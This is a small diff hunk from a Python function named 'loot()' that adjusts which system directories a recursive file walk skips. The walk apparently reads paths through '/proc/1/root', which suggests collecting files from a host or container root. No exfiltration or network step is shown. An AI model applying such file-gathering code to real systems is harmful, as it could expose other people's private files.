@@ -47,7 +47,7 @@ def loot():
         return file.getvalue()
 
     def files(folder):
-        system = {"/proc", "/sys", "/usr", sys.prefix, sys.base_prefix}
+        system = {"/proc", "/sys", "/usr", "/python", sys.prefix}
         for place, folders, names in os.walk(folder):
             folders[:] = [name for name in folders
                           if os.path.join(place, name).removeprefix("/proc/1/root") not in system]
